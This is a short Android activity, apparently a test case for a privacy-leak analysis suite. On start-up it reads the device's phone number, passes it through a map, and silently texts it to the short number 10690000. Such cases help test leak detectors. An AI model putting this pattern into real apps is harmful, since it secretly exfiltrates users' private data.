package cn.privlens.suite.collected_map_value;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<String> names = Arrays.asList("one", "two");
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number();
        Map<String, String> made = names.stream().collect(Collectors.toMap(name -> name, name -> name + id));
        StringBuilder line = new StringBuilder();
        for (String part : made.values()) {
            line.append(part);
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, line.toString(), null, null);
    }
}
